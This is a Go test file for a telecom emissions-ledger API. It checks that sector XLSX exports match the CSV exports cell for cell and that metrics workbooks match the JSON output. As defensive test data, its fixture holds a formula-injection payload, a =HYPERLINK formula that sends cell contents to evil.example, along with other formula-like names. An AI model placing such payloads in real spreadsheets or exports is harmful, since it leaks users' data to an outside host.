package httpapi

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/ictledger/ictledger/xlsxexport"
)

// sectorFixture files returns whose sector export has a name that needs
// CSV quoting, names and ids that begin like formulas, an operator that
// did not file, unavailable per-TB values, and a value of more than 15
// significant digits. It returns the regulator's token.
func sectorFixture(t *testing.T) (*testAPI, string) {
	t.Helper()
	ts := newAPI(t, filingTime)
	reg := ts.regulator()
	ops := map[string]string{
		"sakura-mobile": `=HYPERLINK("https://evil.example/?d="&A1,"Open")`,
		"kanto-fibre":   `Kanto "Fibre", Ltd`,
		"-minus-net":    "@SUM(A1:A9)",
		"zero-traffic":  "ゼロ通信, Ltd",
		"never-filed":   "+81 Never Filed",
	}
	toks := map[string]string{}
	for id, name := range ops {
		toks[id] = ts.addOperator(id, name)
	}
	ts.file(toks["sakura-mobile"], returnFor(t, "sakura-mobile", "2025-Q3", nil))
	ts.file(toks["-minus-net"], returnFor(t, "-minus-net", "2025-Q3", nil))
	ts.file(toks["kanto-fibre"], returnFor(t, "kanto-fibre", "2025-Q3", func(r map[string]any) {
		scale(t, r, "electricity", "31234.56789", "kwh")
		scale(t, r, "fuels", "1.3", "quantity", "generated_kwh")
		r["activity"].(map[string]any)["data_traffic_tb"] = "912345.678"
	}))
	ts.file(toks["zero-traffic"], returnFor(t, "zero-traffic", "2025-Q3", func(r map[string]any) {
		r["activity"].(map[string]any)["data_traffic_tb"] = "0"
	}))
	return ts, reg
}

// readSheet is every row of sheet as stored (raw values, not formatted),
// each padded to width cells, and each cell's type.
func readSheet(t *testing.T, body []byte, sheet string, width int) ([][]string, [][]excelize.CellType, *excelize.File) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("open workbook: %v", err)
	}
	t.Cleanup(func() { _ = f.Close() })
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatalf("sheet %s: %v", sheet, err)
	}
	types := make([][]excelize.CellType, len(rows))
	for r := range rows {
		for len(rows[r]) < width {
			rows[r] = append(rows[r], "")
		}
		types[r] = make([]excelize.CellType, width)
		for c := range width {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if types[r][c], err = f.GetCellType(sheet, ref); err != nil {
				t.Fatal(err)
			}
			if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
				t.Errorf("%s!%s is a formula: %q", sheet, ref, formula)
			}
		}
	}
	return rows, types, f
}

// TestSectorExportXLSXEqualsCSV reads GET /v1/sector/export.xlsx back
// with excelize and finds the CSV export cell for cell: the same header,
// the same rows in the same order, each metric with the same digits: a
// number cell when it has at most 15 significant digits, a text cell
// otherwise. Text that begins like a formula is a string cell holding
// exactly the text, which the CSV writes with its quote in front.
func TestSectorExportXLSXEqualsCSV(t *testing.T) {
	ts, reg := sectorFixture(t)
	for _, period := range []string{"2025-Q3", "2025"} {
		t.Run(period, func(t *testing.T) {
			records := sectorCSV(t, ts, reg, period)
			resp := ts.do("GET", "/v1/sector/export.xlsx?period="+period, reg, "", nil)
			if resp.Code != 200 || resp.Header().Get("Content-Type") != xlsxexport.ContentType ||
				!strings.Contains(resp.Header().Get("Content-Disposition"), `filename="ictledger-sector-`+period+`.xlsx"`) {
				t.Fatalf("status %d, headers %v: %.200s", resp.Code, resp.Header(), resp.Body)
			}
			rows, types, f := readSheet(t, resp.Body.Bytes(), "Sector", len(records[0]))
			if len(rows) != len(records) {
				t.Fatalf("%d rows in the workbook, %d records in the CSV", len(rows), len(records))
			}
			numbers, texts := compareSectorCells(t, records, rows, types)
			if numbers == 0 || texts == 0 {
				t.Fatalf("%d number cells and %d long decimals as text: the fixture must have both", numbers, texts)
			}
			checkSheetLayout(t, f, "Sector", len(records))
			notes, _ := f.GetRows("Notes")
			if count := fmt.Sprintf("%d values as numbers, %d values as text", numbers, texts); !strings.Contains(strings.Join(flatten(notes), "\n"), count) {
				t.Errorf("the notes do not say %q: %q", count, notes)
			}
		})
	}
}

func sectorCSV(t *testing.T, ts *testAPI, reg, period string) [][]string {
	t.Helper()
	resp := ts.do("GET", "/v1/sector/export.csv?period="+period, reg, "", nil)
	if resp.Code != 200 {
		t.Fatalf("csv: %d %s", resp.Code, resp.Body)
	}
	records, err := csv.NewReader(bytes.NewReader(resp.Body.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

// compareSectorCells fails on any cell of rows that is not the CSV's,
// and counts the metric cells that are numbers and those that are text.
func compareSectorCells(t *testing.T, records, rows [][]string, types [][]excelize.CellType) (numbers, texts int) {
	t.Helper()
	for r := range records {
		for c, want := range records[r] {
			got, typ := rows[r][c], types[r][c]
			switch {
			case r == 0 || c < exportTextColumns:
				if csvText(got) != want || (got != "" && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
					t.Errorf("row %d col %d: workbook %q (type %v), CSV %q", r, c, got, typ, want)
				}
			case got != want:
				t.Errorf("row %d col %d: workbook %q, CSV %q", r, c, got, want)
			case want == "":
			case typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset:
				if _, exact := xlsxexport.ExactNumber(want); !exact {
					t.Errorf("row %d col %d: %q is a number cell but not exact in a double", r, c, want)
				}
				numbers++
			default:
				if _, exact := xlsxexport.ExactNumber(want); exact {
					t.Errorf("row %d col %d: %q is exact but written as text (type %v)", r, c, want, typ)
				}
				texts++
			}
		}
	}
	return numbers, texts
}

// checkSheetLayout checks that the header row is frozen and has an
// autofilter over every row.
func checkSheetLayout(t *testing.T, f *excelize.File, sheet string, rows int) {
	t.Helper()
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("%s: panes %+v, %v: the header row must be frozen", sheet, panes, err)
	}
	tables, err := f.GetTables(sheet)
	if err != nil || len(tables) != 1 || !strings.HasPrefix(tables[0].Range, "A1:") ||
		!strings.HasSuffix(tables[0].Range, strconv.Itoa(rows)) {
		t.Errorf("%s: tables %+v, %v: want one autofilter table over %d rows", sheet, tables, err, rows)
	}
}

func flatten(rows [][]string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r...)
	}
	return out
}

// TestReturnMetricsXLSX reads a return's metrics workbook back: every
// figure the JSON answer derives is on sheet Figures with the same value,
// and every input and factor of its derivation is on sheet Derivations.
// The Accept header gives the same workbook as the .xlsx path.
func TestReturnMetricsXLSX(t *testing.T) {
	ts := newAPI(t, filingTime)
	tok := ts.addOperator("sakura-mobile", "Sakura Mobile K.K.")
	rid := ts.file(tok, returnFor(t, "sakura-mobile", "2025-Q3", nil)).ID

	var m struct {
		Methodology string
		Derivations []struct {
			Metric, Formula string
			Value           *string
			Inputs          []struct{ Path, Value string }
			Factors         []struct{ Key, Value, Source string }
		}
	}
	ts.mustJSON("GET", "/v1/returns/"+rid+"/metrics", tok, nil, 200, &m)
	byPath := ts.do("GET", "/v1/returns/"+rid+"/metrics.xlsx", tok, "", nil)
	byAccept := ts.do("GET", "/v1/returns/"+rid+"/metrics", tok, "", nil, "Accept", xlsxexport.ContentType)
	for name, resp := range map[string][]string{"path": {byPath.Header().Get("Content-Type")}, "accept": {byAccept.Header().Get("Content-Type")}} {
		if resp[0] != xlsxexport.ContentType {
			t.Fatalf("%s: content type %q", name, resp[0])
		}
	}
	figures, _, f := readSheet(t, byPath.Body.Bytes(), "Figures", 6)
	accepted, _, _ := readSheet(t, byAccept.Body.Bytes(), "Figures", 6)
	if strings.Join(flatten(figures), "|") != strings.Join(flatten(accepted), "|") {
		t.Fatal("the Accept header and the .xlsx path give different figures")
	}
	if got := strings.Join(figures[0], ","); got != "key,name,value,unit,methodology,note" {
		t.Fatalf("header %q", got)
	}
	value := map[string]string{}
	for _, row := range figures[1:] {
		if _, dup := value[row[0]]; dup {
			t.Errorf("figure %s twice", row[0])
		}
		value[row[0]] = row[2]
		if row[4] == "" {
			t.Errorf("figure %s has no methodology", row[0])
		}
	}
	derivations, _, _ := readSheet(t, byPath.Body.Bytes(), "Derivations", 8)
	parts := map[string]bool{}
	for _, row := range derivations[1:] {
		parts[row[0]+"|"+row[3]+"|"+row[4]+"|"+row[5]+"|"+row[7]] = true
	}
	checked := 0
	for _, d := range m.Derivations {
		want := ""
		if d.Value != nil {
			want = *d.Value
		}
		if got, ok := value[d.Metric]; !ok || got != want {
			t.Errorf("%s: workbook %q (listed %v), JSON %q", d.Metric, got, ok, want)
		}
		for _, in := range d.Inputs {
			if !parts[d.Metric+"|input|"+in.Path+"|"+in.Value+"|the return"] {
				t.Errorf("%s: input %s = %s missing", d.Metric, in.Path, in.Value)
			}
		}
		for _, fr := range d.Factors {
			if !parts[d.Metric+"|factor|"+fr.Key+"|"+fr.Value+"|"+fr.Source] {
				t.Errorf("%s: factor %s = %s (%s) missing", d.Metric, fr.Key, fr.Value, fr.Source)
			}
			checked++
		}
	}
	if len(m.Derivations) == 0 || checked == 0 {
		t.Fatalf("%d derivations, %d factors compared", len(m.Derivations), checked)
	}
	checkSheetLayout(t, f, "Figures", len(figures))
	checkSheetLayout(t, f, "Derivations", len(derivations))
}
